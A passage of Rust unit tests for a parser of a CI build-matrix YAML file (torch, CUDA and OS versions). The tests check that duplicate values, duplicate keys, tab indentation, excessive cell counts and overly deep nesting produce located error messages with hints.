        let flow = format!("{MINIMAL}include: [{{torch: \"2.7\", cuda: \"12.6\", os: ubuntu24.04}},\n  {{torch: \"2.8\", cuda: \"12.6\", os: ubuntu24.04}}]\n");
        let matrix = Matrix::parse(&flow, "m.yaml").unwrap();
        assert_eq!(matrix.include_locations, vec!["m.yaml:6", "m.yaml:7"]);
    }

    #[test]
    fn repeated_values_and_too_many_cells_are_refused() {
        let error = error_of(&MINIMAL.replace("[\"12.6\"]", "[\"12.6\", \"12.8\",\n  \"12.6\"]"));
        assert!(
            error.starts_with("matrix.yaml:5:3: `cuda` lists 12.6 twice (first at 4:8)"),
            "{error}"
        );
        let many: Vec<String> = (0..200).map(|minor| format!("\"2.{minor}\"")).collect();
        let cudas: Vec<String> = (0..60).map(|minor| format!("\"12.{minor}\"")).collect();
        let text = MINIMAL
            .replace("[\"2.7\"]", &format!("[{}]", many.join(", ")))
            .replace("[\"12.6\"]", &format!("[{}]", cudas.join(", ")));
        let error = error_of(&text);
        assert!(error.starts_with("matrix.yaml:3:1: the matrix asks for 24000 cells (200 torch × 60 cuda × 1 os × 2 variants × 1 platforms)"), "{error}");
    }

    #[test]
    fn duplicate_keys_tabs_and_limits_are_located() {
        let error = error_of(&format!("{MINIMAL}cuda: [\"12.8\"]\n"));
        assert!(
            error.starts_with("matrix.yaml:6:1: duplicate key `cuda` (first at line 4)"),
            "{error}"
        );
        assert!(error.contains("\nhint: "), "{error}");
        let error = error_of(&format!("{MINIMAL}tags:\n\tlatest: true\n"));
        assert!(
            error.starts_with("matrix.yaml:7:1: invalid YAML"),
            "{error}"
        );
        assert!(error.contains("hint: YAML indents with spaces"), "{error}");
        let deep = format!("{MINIMAL}labels: {}{}\n", "[".repeat(100), "]".repeat(100));
        assert!(error_of(&deep).contains("nested more than 32 deep"));
    }
}
